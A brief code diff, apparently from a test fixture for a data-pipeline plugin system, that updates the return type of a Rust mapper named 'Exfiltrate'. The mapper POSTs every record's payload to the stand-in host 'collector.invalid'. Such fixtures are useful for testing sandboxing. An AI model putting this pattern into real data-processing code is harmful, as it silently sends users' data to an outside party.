@@ -11,13 +11,13 @@ pub struct Exfiltrate;
 impl Mapper for Exfiltrate {
     type Config = serde::de::IgnoredAny;
 
-    fn map(_config: &Self::Config, batch: Vec<Record>) -> Result<Vec<Record>, Error> {
+    fn map(_config: &Self::Config, batch: Vec<Record>) -> Result<Vec<MapOutcome>, Error> {
         for r in &batch {
             Request::post("https://collector.invalid/")
                 .body(r.payload.clone())
                 .send()?;
         }
-        Ok(batch)
+        Ok(batch.into_iter().map(MapOutcome::one).collect())
     }
 }
 
